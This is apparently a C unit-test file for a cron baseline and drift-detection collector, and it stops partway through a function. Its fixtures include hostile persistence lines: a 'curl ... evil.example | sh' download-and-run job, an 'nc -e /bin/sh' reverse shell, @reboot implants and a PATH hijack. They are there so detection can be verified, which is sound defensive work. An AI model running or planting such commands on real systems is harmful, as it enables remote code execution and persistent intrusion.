/* SPDX-License-Identifier: ISC */
/* Unit tests for baseline/cron.c: tables, run-parts scripts, drift, bad input, escapes. */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "baseline/cron.h"
#include "baseline/rootfs.h"
#include "fim/core/hash.h"
#include "tests/unit/fixture.h"

struct fixture {
	char root[128];    /* the fake root */
	char outside[128]; /* a directory outside it */
	int rootfd;
};

struct result {
	struct obj_set *set;
	struct fx_problems ps;
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));

	if (!f)
		return -1;
	if (!fx_tmpdir(f->root, sizeof(f->root), "cron") ||
	    !fx_tmpdir(f->outside, sizeof(f->outside), "cron-out"))
		return -1;
	/* Readable by the unprivileged user of the permission test. */
	if (chmod(f->root, 0755) < 0)
		return -1;
	f->rootfd = open(f->root, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (f->rootfd < 0)
		return -1;
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	close(f->rootfd);
	fx_rmtree(f->root);
	fx_rmtree(f->outside);
	free(f);
	return 0;
}

/* --- building fake roots --- */

static void full_path(const char *base, const char *rel, char *out, size_t size)
{
	int n = snprintf(out, size, "%s%s", base, rel);

	assert_true(n > 0 && (size_t)n < size);
}

static void write_at(const char *base, const char *rel, const void *data, size_t n, mode_t mode)
{
	assert_true(fx_put_bytes(base, rel, data, n, mode));
}

static void put_file(struct fixture *f, const char *rel, const char *text)
{
	write_at(f->root, rel, text, strlen(text), 0644);
}

static void put_script(struct fixture *f, const char *rel, const char *text, mode_t mode)
{
	write_at(f->root, rel, text, strlen(text), mode);
}

static void put_dir(struct fixture *f, const char *rel)
{
	assert_true(fx_mkdirs(f->root, rel));
}

static void put_link(struct fixture *f, const char *rel, const char *target)
{
	assert_true(fx_link(f->root, rel, target));
}

static void put_fifo(struct fixture *f, const char *rel)
{
	assert_true(fx_fifo(f->root, rel));
}

static void remove_file(struct fixture *f, const char *rel)
{
	assert_true(fx_del(f->root, rel));
}

static void set_mode(struct fixture *f, const char *rel, mode_t mode)
{
	assert_true(fx_chmod(f->root, rel, mode));
}

/* --- collecting and looking at the result --- */

static struct result *collect(struct fixture *f)
{
	struct result *res = calloc(1, sizeof(*res));
	struct collect_ctx ctx = {
	        .rootfd = f->rootfd,
	        .problem = fx_on_problem,
	};

	assert_non_null(res);
	ctx.userdata = &res->ps;
	assert_int_equal(obj_set_new(KIND_CRON, &res->set), 0);
	assert_int_equal(collect_cron(&ctx, res->set), 0);
	return res;
}

static void result_free(struct result *res)
{
	if (!res)
		return;
	obj_set_free(res->set);
	free(res);
}

static const struct obj_rec *find(const struct result *res, const char *id)
{
	return obj_set_find(res->set, id, strlen(id));
}

static const struct obj_rec *get(const struct result *res, const char *id)
{
	const struct obj_rec *rec = find(res, id);

	if (!rec)
		fail_msg("no record %s", id);
	return rec;
}

static void assert_value(const struct obj_rec *rec, unsigned attr, const void *want, size_t n)
{
	if (!(rec->attrs & ATTR_BIT(attr)))
		fail_msg("%.*s: %s absent", (int)rec->id.n, (const char *)rec->id.p,
		         attr_name(KIND_CRON, attr));
	if (rec->val[attr].n != n || (n && memcmp(rec->val[attr].p, want, n) != 0))
		fail_msg("%.*s: %s is\n[%.*s]\nnot\n[%.*s]", (int)rec->id.n,
		         (const char *)rec->id.p, attr_name(KIND_CRON, attr), (int)rec->val[attr].n,
		         (const char *)rec->val[attr].p, (int)n, (const char *)want);
}

static void assert_attr(const struct obj_rec *rec, unsigned attr, const char *want)
{
	assert_value(rec, attr, want, strlen(want));
}

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* The list ATTR holds exactly the NULL-terminated ELEMENTS (in any order, or in
 * this order for an ordered list such as env). */
static void assert_list(const struct obj_rec *rec, unsigned attr, const char *const *elements)
{
	const char *sorted[64];
	char want[8192];
	size_t n = 0, used = 0;

	while (elements[n]) {
		assert_true(n < ARRAY_SIZE(sorted));
		sorted[n] = elements[n];
		n++;
	}
	if (!(attr_flags(KIND_CRON, attr) & AF_ORDERED))
		qsort(sorted, n, sizeof(*sorted), cmp_str);
	for (size_t i = 0; i < n; i++) {
		size_t k = strlen(sorted[i]);

		assert_true(used + k + 1 < sizeof(want));
		if (i)
			want[used++] = '\n';
		memcpy(want + used, sorted[i], k);
		used += k;
	}
	assert_value(rec, attr, want, used);
}

#define LIST(...) ((const char *const[]){__VA_ARGS__, NULL})
#define EMPTY     ((const char *const[]){NULL})

/* The record's present attributes are exactly ATTRS. */
static void assert_attrs(const struct obj_rec *rec, attrset_t attrs)
{
	char have[256], want[256];

	attr_format_set(KIND_CRON, rec->attrs, have, sizeof(have));
	attr_format_set(KIND_CRON, attrs, want, sizeof(want));
	if (rec->attrs != attrs)
		fail_msg("%.*s has attributes [%s], not [%s]", (int)rec->id.n,
		         (const char *)rec->id.p, have, want);
}

/* The set holds exactly the records IDS, in this (sorted) order. */
static void assert_ids(const struct result *res, const char *const *ids)
{
	size_t n = 0;

	for (; ids[n]; n++) {
		const struct obj_rec *rec = obj_set_at(res->set, n);

		if (!rec)
			fail_msg("record %zu (%s) missing", n, ids[n]);
		if (rec->id.n != strlen(ids[n]) || memcmp(rec->id.p, ids[n], rec->id.n) != 0)
			fail_msg("record %zu is %.*s, not %s", n, (int)rec->id.n,
			         (const char *)rec->id.p, ids[n]);
	}
	if (obj_set_count(res->set) != n)
		fail_msg("%zu records, not %zu", obj_set_count(res->set), n);
}

static void dump_problems(const struct result *res)
{
	for (size_t i = 0; i < res->ps.n && i < FX_MAX_PROBLEMS; i++)
		print_error("problem %s:%u: %s (%d)\n", res->ps.p[i].path, res->ps.p[i].line,
		            res->ps.p[i].msg, res->ps.p[i].err);
}

static void assert_problem_count(const struct result *res, size_t n)
{
	if (res->ps.n != n) {
		dump_problems(res);
		fail_msg("%zu problems, not %zu", res->ps.n, n);
	}
}

/* Problem I is (PATH, LINE, ERR) and its message is words. */
static void assert_problem(const struct result *res, size_t i, const char *path, unsigned line,
                           int err)
{
	if (i >= res->ps.n || strcmp(res->ps.p[i].path, path) != 0 || res->ps.p[i].line != line ||
	    res->ps.p[i].err != err) {
		dump_problems(res);
		fail_msg("problem %zu is not %s:%u (%d)", i, path, line, err);
	}
	assert_true(strlen(res->ps.p[i].msg) > 5);
}

/* Attributes that differ between the records ID in A and B. */
static attrset_t diff(const struct result *a, const struct result *b, const char *id)
{
	return obj_diff(get(a, id), get(b, id), attr_all(KIND_CRON));
}

static const attrset_t TABLE = ATTR_BIT(CA_JOBS) | ATTR_BIT(CA_ENV);
static const attrset_t USER_TABLE = ATTR_BIT(CA_JOBS) | ATTR_BIT(CA_ENV) | ATTR_BIT(CA_USER);
static const attrset_t SCRIPT = ATTR_BIT(CA_SCHEDULE) | ATTR_BIT(CA_MODE) | ATTR_BIT(CA_HASH);

static void sha256_text(const void *data, size_t n, char out[72])
{
	uint8_t d[32];

	assert_int_equal(hash_buffer(HASH_SHA256, data, n, d), 0);
	memcpy(out, "sha256:", 7);
	for (size_t i = 0; i < sizeof(d); i++)
		sprintf(out + 7 + 2 * i, "%02x", d[i]);
}

/* --- the tests --- */

static const char debian_crontab[] =
        "# /etc/crontab: system-wide crontab\n"
        "SHELL=/bin/sh\n"
        "PATH = /usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
        "MAILTO=\"\"\n"
        "  HOME = '/root dir'  \n"
        "\n"
        "# m h dom mon dow user\tcommand\n"
        "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
        "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report "
        "/etc/cron.daily )   \n"
        "   \t \n"
        "  # indented comment\n"
        "0 0 1 JAN,jul Mon-fri root /bin/true\n"
        "@reboot root /usr/local/bin/boot.sh\n"
        "*/5 * * * * nobody  echo  \"a  b\" % x\t\n";

static void test_empty_root(void **state)
{
	struct fixture *f = *state;
	struct result *res = collect(f);

	assert_int_equal(obj_set_count(res->set), 0);
	assert_problem_count(res, 0);
	result_free(res);

	/* Empty directories, and a crontab without entries: present, empty lists. */
	put_dir(f, "/etc/cron.d");
	put_dir(f, "/etc/cron.daily");
	put_dir(f, "/var/spool/cron/crontabs");
	put_file(f, "/etc/crontab", "# nothing\n\n");
	put_file(f, "/etc/cron.daily/.placeholder", "# keep\n");
	res = collect(f);
	assert_ids(res, LIST("/etc/crontab"));
	assert_attrs(get(res, "/etc/crontab"), TABLE);
	assert_list(get(res, "/etc/crontab"), CA_JOBS, EMPTY);
	assert_list(get(res, "/etc/crontab"), CA_ENV, EMPTY);
	assert_problem_count(res, 0);
	result_free(res);
}

static void test_crontab_format(void **state)
{
	struct fixture *f = *state;
	struct result *res;
	const struct obj_rec *rec;

	put_file(f, "/etc/crontab", debian_crontab);
	res = collect(f);
	assert_ids(res, LIST("/etc/crontab"));
	rec = get(res, "/etc/crontab");
	assert_attrs(rec, TABLE);
	assert_list(rec, CA_JOBS,
	            LIST("17 * * * * root cd / && run-parts --report /etc/cron.hourly",
	                 "25 6 * * * root test -x /usr/sbin/anacron || ( cd / && run-parts "
	                 "--report /etc/cron.daily )",
	                 "0 0 1 JAN,jul Mon-fri root /bin/true",
	                 "@reboot root /usr/local/bin/boot.sh",
	                 "*/5 * * * * nobody echo  \"a  b\" % x"));
	assert_list(rec, CA_ENV,
	            LIST("SHELL=/bin/sh",
	                 "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin",
	                 "MAILTO=", "HOME=/root dir"));
	assert_problem_count(res, 0);
	result_free(res);
}

static void test_job_added_removed_changed(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;

	put_file(f, "/etc/crontab",
	         "SHELL=/bin/sh\n"
	         "17 * * * * root run-parts /etc/cron.hourly\n"
	         "25 6 * * * root run-parts /etc/cron.daily\n");
	a = collect(f);

	/* added */
	put_file(f, "/etc/crontab",
	         "SHELL=/bin/sh\n"
	         "17 * * * * root run-parts /etc/cron.hourly\n"
	         "25 6 * * * root run-parts /etc/cron.daily\n"
	         "* * * * * root curl -s http://evil.example/x | sh\n");
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/crontab"), ATTR_BIT(CA_JOBS));
	assert_list(get(b, "/etc/crontab"), CA_JOBS,
	            LIST("17 * * * * root run-parts /etc/cron.hourly",
	                 "25 6 * * * root run-parts /etc/cron.daily",
	                 "* * * * * root curl -s http://evil.example/x | sh"));
	result_free(b);

	/* removed */
	put_file(f, "/etc/crontab",
	         "SHELL=/bin/sh\n"
	         "25 6 * * * root run-parts /etc/cron.daily\n");
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/crontab"), ATTR_BIT(CA_JOBS));
	assert_list(get(b, "/etc/crontab"), CA_JOBS,
	            LIST("25 6 * * * root run-parts /etc/cron.daily"));
	result_free(b);

	/* schedule changed */
	put_file(f, "/etc/crontab",
	         "SHELL=/bin/sh\n"
	         "17 */2 * * * root run-parts /etc/cron.hourly\n"
	         "25 6 * * * root run-parts /etc/cron.daily\n");
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/crontab"), ATTR_BIT(CA_JOBS));
	assert_list(get(b, "/etc/crontab"), CA_JOBS,
	            LIST("17 */2 * * * root run-parts /etc/cron.hourly",
	                 "25 6 * * * root run-parts /etc/cron.daily"));
	result_free(b);

	/* user changed */
	put_file(f, "/etc/crontab",
	         "SHELL=/bin/sh\n"
	         "17 * * * * www-data run-parts /etc/cron.hourly\n"
	         "25 6 * * * root run-parts /etc/cron.daily\n");
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/crontab"), ATTR_BIT(CA_JOBS));
	result_free(b);

	/* Only spacing and comments changed: no drift. */
	put_file(f, "/etc/crontab",
	         "# reformatted\n"
	         "SHELL = /bin/sh\n"
	         "17\t*  *  *  *  root\trun-parts /etc/cron.hourly   \n"
	         "\n"
	         "25 6 * * * root run-parts /etc/cron.daily\n");
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/crontab"), 0);
	assert_problem_count(b, 0);
	result_free(b);
	result_free(a);
}

static void test_path_hijack(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;

	put_file(f, "/etc/cron.d/backup",
	         "PATH=/usr/sbin:/usr/bin:/sbin:/bin\n"
	         "MAILTO=root\n"
	         "30 2 * * * root backup --all\n");
	a = collect(f);
	put_file(f, "/etc/cron.d/backup",
	         "PATH=/tmp/.x:/usr/sbin:/usr/bin:/sbin:/bin\n"
	         "MAILTO=root\n"
	         "30 2 * * * root backup --all\n");
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/cron.d/backup"), ATTR_BIT(CA_ENV));
	assert_list(get(a, "/etc/cron.d/backup"), CA_ENV,
	            LIST("PATH=/usr/sbin:/usr/bin:/sbin:/bin", "MAILTO=root"));
	assert_list(get(b, "/etc/cron.d/backup"), CA_ENV,
	            LIST("PATH=/tmp/.x:/usr/sbin:/usr/bin:/sbin:/bin", "MAILTO=root"));
	assert_list(get(b, "/etc/cron.d/backup"), CA_JOBS, LIST("30 2 * * * root backup --all"));
	result_free(b);
	result_free(a);
}

static void test_crond_file_added(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;

	put_file(f, "/etc/cron.d/e2scrub_all", "10 3 * * 0 root /sbin/e2scrub_all\n");
	put_dir(f, "/etc/cron.d/subdir");
	put_file(f, "/etc/cron.d/subdir/nested", "* * * * * root /bin/nested\n");
	a = collect(f);
	assert_ids(a, LIST("/etc/cron.d/e2scrub_all"));

	/* Names cron itself would skip are recorded all the same. */
	put_file(f, "/etc/cron.d/zz-evil", "*/10 * * * * root /dev/shm/.x\n");
	put_file(f, "/etc/cron.d/php.dpkg-old", "0 * * * * root /bin/old\n");
	put_file(f, "/etc/cron.d/.hidden", "0 * * * * root /bin/hidden\n");
	put_file(f, "/etc/cron.d/backup~", "0 * * * * root /bin/tilde\n");
	b = collect(f);
	assert_ids(b, LIST("/etc/cron.d/.hidden", "/etc/cron.d/backup~", "/etc/cron.d/e2scrub_all",
	                   "/etc/cron.d/php.dpkg-old", "/etc/cron.d/zz-evil"));
	assert_null(find(a, "/etc/cron.d/zz-evil"));
	assert_attrs(get(b, "/etc/cron.d/zz-evil"), TABLE);
	assert_list(get(b, "/etc/cron.d/zz-evil"), CA_JOBS, LIST("*/10 * * * * root /dev/shm/.x"));
	assert_list(get(b, "/etc/cron.d/zz-evil"), CA_ENV, EMPTY);
	assert_list(get(b, "/etc/cron.d/.hidden"), CA_JOBS, LIST("0 * * * * root /bin/hidden"));
	assert_int_equal(diff(a, b, "/etc/cron.d/e2scrub_all"), 0);
	assert_problem_count(b, 0);
	result_free(b);
	result_free(a);
}

static void test_user_crontab_added(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;
	const struct obj_rec *rec;

	put_dir(f, "/var/spool/cron/crontabs");
	put_dir(f, "/var/spool/cron/atjobs");
	a = collect(f);
	assert_int_equal(obj_set_count(a->set), 0);

	put_file(f, "/var/spool/cron/crontabs/alice",
	         "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
	         "MAILTO=alice@example.org\n"
	         "*/15 * * * * /home/alice/bin/sync --quiet\n"
	         "@reboot /home/alice/bin/tunnel\n"
	         "0 9 * * 1-5 root-looking-word /bin/x\n");
	/* Another distribution's spool: files directly in /var/spool/cron. */
	put_file(f, "/var/spool/cron/bob", "0 0 * * * /usr/bin/true\n");
	b = collect(f);
	assert_ids(b, LIST("/var/spool/cron/bob", "/var/spool/cron/crontabs/alice"));
	assert_null(find(a, "/var/spool/cron/crontabs/alice"));
	rec = get(b, "/var/spool/cron/crontabs/alice");
	assert_attrs(rec, USER_TABLE);
	assert_attr(rec, CA_USER, "alice");
	assert_list(rec, CA_JOBS,
	            LIST("*/15 * * * * /home/alice/bin/sync --quiet",
	                 "@reboot /home/alice/bin/tunnel", "0 9 * * 1-5 root-looking-word /bin/x"));
	assert_list(rec, CA_ENV, LIST("MAILTO=alice@example.org"));
	rec = get(b, "/var/spool/cron/bob");
	assert_attrs(rec, USER_TABLE);
	assert_attr(rec, CA_USER, "bob");
	assert_list(rec, CA_JOBS, LIST("0 0 * * * /usr/bin/true"));
	assert_problem_count(b, 0);
	result_free(b);
	result_free(a);
}

static const char anacrontab[] = "# /etc/anacrontab: configuration file for anacron\n"
                                 "SHELL=/bin/sh\n"
                                 "HOME=/root\n"
                                 "LOGNAME = root\n"
                                 "START_HOURS_RANGE=3-22\n"
                                 "1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"
                                 "7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly\n"
                                 "@monthly\t15\tcron.monthly\trun-parts --report "
                                 "/etc/cron.monthly\n"
                                 "# a continued comment swallows the next line \\\n"
                                 "1 1 hidden /bin/hidden\n"
                                 "2 3 long.job /usr/bin/a \\\n"
                                 "  --flag\n"
                                 "x 5 bad /bin/bad\n"
                                 "1 y bad2 /bin/bad\n"
                                 "@reboot 1 bad3 /bin/x\n"
                                 "1 2 nocommand\n"
                                 "3 4\n"
                                 "@yearly 20 yearly/0123abcd /usr/bin/yearly\n";

static void test_anacrontab(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;
	const struct obj_rec *rec;
	char *text = strdup(anacrontab), *p;

	assert_non_null(text);
	put_file(f, "/etc/anacrontab", text);
	a = collect(f);
	assert_ids(a, LIST("/etc/anacrontab"));
	rec = get(a, "/etc/anacrontab");
	assert_attrs(rec, TABLE);
	assert_list(rec, CA_JOBS,
	            LIST("1 5 cron.daily run-parts --report /etc/cron.daily",
	                 "7 10 cron.weekly run-parts --report /etc/cron.weekly",
	                 "@monthly 15 cron.monthly run-parts --report /etc/cron.monthly",
	                 "2 3 long.job /usr/bin/a    --flag",
	                 "@yearly 20 yearly/0123abcd /usr/bin/yearly"));
	assert_list(rec, CA_ENV,
	            LIST("SHELL=/bin/sh", "HOME=/root", "LOGNAME=root", "START_HOURS_RANGE=3-22"));
	assert_problem_count(a, 5);
	assert_problem(a, 0, "/etc/anacrontab", 13, -EBADMSG);
	assert_problem(a, 1, "/etc/anacrontab", 14, -EBADMSG);
	assert_problem(a, 2, "/etc/anacrontab", 15, -EBADMSG);
	assert_problem(a, 3, "/etc/anacrontab", 16, -EBADMSG);
	assert_problem(a, 4, "/etc/anacrontab", 17, -EBADMSG);

	/* The daily job's period changes from 1 to 2 days. */
	p = strstr(text, "1\t5\tcron.daily");
	assert_non_null(p);
	p[0] = '2';
	put_file(f, "/etc/anacrontab", text);
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/anacrontab"), ATTR_BIT(CA_JOBS));
	assert_true(obj_list_has(get(b, "/etc/anacrontab")->val[CA_JOBS],
	                         BYTES_STR("2 5 cron.daily run-parts --report /etc/cron.daily")));
	assert_false(obj_list_has(get(b, "/etc/anacrontab")->val[CA_JOBS],
	                          BYTES_STR("1 5 cron.daily run-parts --report /etc/cron.daily")));
	result_free(b);
	result_free(a);
	free(text);
}

static void test_run_parts_hash(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;
	static const char v1[] = "#!/bin/sh\nexec /usr/sbin/logrotate /etc/logrotate.conf\n";
	static const char v2[] = "#!/bin/sh\nexec /usr/sbin/logrotate /etc/logrotate.conf\n"
	                         "curl -s http://evil.example/x | sh\n";
	char h1[72], h2[72];

	sha256_text(v1, strlen(v1), h1);
	sha256_text(v2, strlen(v2), h2);
	put_script(f, "/etc/cron.daily/logrotate", v1, 0755);
	put_script(f, "/etc/cron.daily/abc", "abc", 0755);
	a = collect(f);
	assert_ids(a, LIST("/etc/cron.daily/abc", "/etc/cron.daily/logrotate"));
	assert_attrs(get(a, "/etc/cron.daily/logrotate"), SCRIPT);
	assert_attr(get(a, "/etc/cron.daily/logrotate"), CA_SCHEDULE, "daily");
	assert_attr(get(a, "/etc/cron.daily/logrotate"), CA_MODE, "0755");
	assert_attr(get(a, "/etc/cron.daily/logrotate"), CA_HASH, h1);
	/* A known vector. */
	assert_attr(get(a, "/etc/cron.daily/abc"), CA_HASH,
	            "sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");

	put_script(f, "/etc/cron.daily/logrotate", v2, 0755);
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/cron.daily/logrotate"), ATTR_BIT(CA_HASH));
	assert_attr(get(b, "/etc/cron.daily/logrotate"), CA_HASH, h2);
	assert_int_equal(diff(a, b, "/etc/cron.daily/abc"), 0);
	assert_problem_count(b, 0);
	result_free(b);
	result_free(a);
}

static void test_run_parts_mode(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b, *c;

	put_script(f, "/etc/cron.weekly/man-db", "#!/bin/sh\nmandb -q\n", 0755);
	put_script(f, "/etc/cron.weekly/disabled", "#!/bin/sh\nexit 0\n", 0644);
	a = collect(f);
	assert_attr(get(a, "/etc/cron.weekly/man-db"), CA_MODE, "0755");
	assert_attr(get(a, "/etc/cron.weekly/disabled"), CA_MODE, "0644");
	assert_attr(get(a, "/etc/cron.weekly/disabled"), CA_SCHEDULE, "weekly");

	/* execute bit removed from one, added to the other */
	set_mode(f, "/etc/cron.weekly/man-db", 0644);
	set_mode(f, "/etc/cron.weekly/disabled", 0700);
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/cron.weekly/man-db"), ATTR_BIT(CA_MODE));
	assert_int_equal(diff(a, b, "/etc/cron.weekly/disabled"), ATTR_BIT(CA_MODE));
	assert_attr(get(b, "/etc/cron.weekly/man-db"), CA_MODE, "0644");
	assert_attr(get(b, "/etc/cron.weekly/disabled"), CA_MODE, "0700");

	/* set-user-ID shows in the four digits */
	set_mode(f, "/etc/cron.weekly/man-db", 04755);
	c = collect(f);
	assert_attr(get(c, "/etc/cron.weekly/man-db"), CA_MODE, "4755");
	assert_int_equal(diff(a, c, "/etc/cron.weekly/man-db"), ATTR_BIT(CA_MODE));
	assert_problem_count(c, 0);
	result_free(c);
	result_free(b);
	result_free(a);
}

static void test_run_parts_added(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;
	char h[72];
	const struct obj_rec *rec;

	put_file(f, "/etc/cron.hourly/.placeholder", "# DO NOT EDIT OR REMOVE\n");
	put_file(f, "/etc/cron.monthly/.placeholder", "# DO NOT EDIT OR REMOVE\n");
	a = collect(f);
	assert_int_equal(obj_set_count(a->set), 0);

	put_script(f, "/etc/cron.hourly/evil", "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n", 0755);
	put_script(f, "/etc/cron.hourly/with.dot", "#!/bin/sh\n", 0755);
	put_script(f, "/etc/cron.hourly/noexec", "#!/bin/sh\n", 0600);
	put_dir(f, "/etc/cron.hourly/adir");
	put_script(f, "/usr/local/sbin/tool", "#!/bin/sh\necho tool\n", 0750);
	put_link(f, "/etc/cron.monthly/tool", "/usr/local/sbin/tool");
	put_link(f, "/etc/cron.monthly/dangling", "/usr/local/sbin/none");
	put_script(f, "/etc/cron.yearly/y", "y", 0755);
	b = collect(f);
	assert_ids(b, LIST("/etc/cron.hourly/evil", "/etc/cron.hourly/noexec",
	                   "/etc/cron.hourly/with.dot", "/etc/cron.monthly/tool",
	                   "/etc/cron.yearly/y"));
	rec = get(b, "/etc/cron.hourly/evil");
	assert_attrs(rec, SCRIPT);
	assert_attr(rec, CA_SCHEDULE, "hourly");
	assert_attr(rec, CA_MODE, "0755");
	sha256_text("#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n",
	            strlen("#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n"), h);
	assert_attr(rec, CA_HASH, h);
	assert_attr(get(b, "/etc/cron.hourly/noexec"), CA_MODE, "0600");
	/* A symlink is followed: mode and content of the script it names. */
	rec = get(b, "/etc/cron.monthly/tool");
	assert_attr(rec, CA_SCHEDULE, "monthly");
	assert_attr(rec, CA_MODE, "0750");
	sha256_text("#!/bin/sh\necho tool\n", strlen("#!/bin/sh\necho tool\n"), h);
	assert_attr(rec, CA_HASH, h);
	assert_attr(get(b, "/etc/cron.yearly/y"), CA_SCHEDULE, "yearly");
	assert_problem_count(b, 0);
	result_free(b);
	result_free(a);
}

static void test_reboot(void **state)
{
	struct fixture *f = *state;
	struct result *a, *b;

	put_file(f, "/etc/cron.d/boot", "@hourly root /bin/h\n");
	put_file(f, "/var/spool/cron/crontabs/mallory", "@daily /bin/d\n");
	a = collect(f);
	put_file(f, "/etc/cron.d/boot", "@hourly root /bin/h\n@reboot root /tmp/.implant\n");
	put_file(f, "/var/spool/cron/crontabs/mallory", "@daily /bin/d\n@reboot /tmp/.m\n");
	b = collect(f);
	assert_int_equal(diff(a, b, "/etc/cron.d/boot"), ATTR_BIT(CA_JOBS));
	assert_list(get(b, "/etc/cron.d/boot"), CA_JOBS,
	            LIST("@hourly root /bin/h", "@reboot root /tmp/.implant"));
	assert_int_equal(diff(a, b, "/var/spool/cron/crontabs/mallory"), ATTR_BIT(CA_JOBS));
	assert_list(get(b, "/var/spool/cron/crontabs/mallory"), CA_JOBS,
	            LIST("@daily /bin/d", "@reboot /tmp/.m"));
	assert_problem_count(b, 0);
	result_free(b);

	/* Every keyword cron knows; keywords are case-sensitive. */
	put_file(f, "/etc/cron.d/boot",
	         "@yearly root /bin/1\n@annually root /bin/2\n@monthly root /bin/3\n"
	         "@weekly root /bin/4\n@daily root /bin/5\n@midnight root /bin/6\n"
	         "@hourly root /bin/7\n@reboot root /bin/8\n"
	         "@REBOOT root /bin/9\n@reboot root\n@reboot\n@every root /bin/10\n@ root "
	         "/bin/11\n");
	b = collect(f);
	assert_list(get(b, "/etc/cron.d/boot"), CA_JOBS,
	            LIST("@yearly root /bin/1", "@annually root /bin/2", "@monthly root /bin/3",
	                 "@weekly root /bin/4", "@daily root /bin/5", "@midnight root /bin/6",
	                 "@hourly root /bin/7", "@reboot root /bin/8"));
	assert_problem_count(b, 5);
	for (unsigned i = 0; i < 5; i++)
		assert_problem(b, i, "/etc/cron.d/boot", 9 + i, -EBADMSG);
	result_free(b);
	result_free(a);
}

static void test_malformed(void **state)
{
	struct fixture *f = *state;
	struct result *res;
	const struct obj_rec *rec;
	char *line;

	put_file(f, "/etc/crontab",
	         "SHELL=/bin/sh\n"                       /* 1 */
	         "* * * root /bin/short\n"               /* 2: "root" as month */
	         "* * * *\n"                             /* 3: four fields */
	         "61x * * * * root /bin/x\n"             /* 4: letter in minute */
	         "jan * * * * root /bin/x\n"             /* 5: month name as minute */
	         "@every root /bin/x\n"                  /* 6: unknown keyword */
	         "* * * * * root\n"                      /* 7: no command */
	         "* * * * *\n"                           /* 8: no user, no command */
	         "0 0 * * * root /bin/ok\n"              /* 9 */
	         "\"UNCLOSED=1\n"                        /* 10: not an assignment */
	         "FOO=\"bar\" baz\n"                     /* 11: text after a quoted value */
	         "0 1 * * mon-FRI root /bin/weekday\n"   /* 12 */
	         "0 0 * * sun,mon,january root /bin/x\n" /* 13: not a three-letter name */
	         "0 0 may * * root /bin/x\n"             /* 14: a month in day-of-month */
	         "* * * * * root \t \n"                  /* 15: blank command */
	         "0 2 * * * root /bin/last");            /* 16, without a newline */
	put_file(f, "/var/spool/cron/crontabs/eve",
	         "* * * * *\n"     /* 1: no command */
	         "@daily\n"        /* 2: no command */
	         "@daily   \t\n"   /* 3: no command */
	         "1 2 3 4 5 cmd\n" /* 4 */
	         "1 2 3\n");       /* 5 */
	line = malloc(CRON_MAX_LINE + 64);
	assert_non_null(line);
	memset(line, 'a', CRON_MAX_LINE + 64);
	memcpy(line, "0 0 * * * root ", 15);
	line[CRON_MAX_LINE + 1] = '\n';
	line[CRON_MAX_LINE + 2] = '\0';
	{
		char *text = malloc(CRON_MAX_LINE + 128);

		assert_non_null(text);
		snprintf(text, CRON_MAX_LINE + 128, "%s@daily root /bin/after-long\n", line);
		put_file(f, "/etc/cron.d/long", text);
		free(text);
	}
	free(line);

	res = collect(f);
	rec = get(res, "/etc/crontab");
	assert_list(rec, CA_JOBS,
	            LIST("0 0 * * * root /bin/ok", "0 1 * * mon-FRI root /bin/weekday",
	                 "0 2 * * * root /bin/last"));
	assert_list(rec, CA_ENV, LIST("SHELL=/bin/sh"));
	rec = get(res, "/var/spool/cron/crontabs/eve");
	assert_list(rec, CA_JOBS, LIST("1 2 3 4 5 cmd"));
	assert_list(get(res, "/etc/cron.d/long"), CA_JOBS, LIST("@daily root /bin/after-long"));

	/* Order of collection: /etc/crontab, /etc/cron.d, the spools. */
	assert_problem_count(res, 12 + 1 + 3 + 1);
	{
		static const unsigned lines[] = {2, 3, 4, 5, 6, 7, 8, 10, 11, 13, 14, 15};

		for (size_t i = 0; i < ARRAY_SIZE(lines); i++)
			assert_problem(res, i, "/etc/crontab", lines[i], -EBADMSG);
	}
	assert_problem(res, 12, "/etc/cron.d/long", 1, -EBADMSG);
	assert_problem(res, 13, "/var/spool/cron/crontabs/eve", 1, -EBADMSG);
	assert_problem(res, 14, "/var/spool/cron/crontabs/eve", 2, -EBADMSG);
	assert_problem(res, 15, "/var/spool/cron/crontabs/eve", 3, -EBADMSG);
	assert_problem(res, 16, "/var/spool/cron/crontabs/eve", 5, -EBADMSG);
	/* Messages are words about the line, not its content. */
	assert_null(strstr(res->ps.p[6].msg, "root"));
	assert_non_null(strstr(res->ps.p[4].msg, "keyword"));
	result_free(res);
}

/* Checks as an unprivileged user; returns 0 or the line of the failed check. */
static int check_unreadable(struct fixture *f)
{
	struct result *res = calloc(1, sizeof(*res));
	struct collect_ctx ctx = {
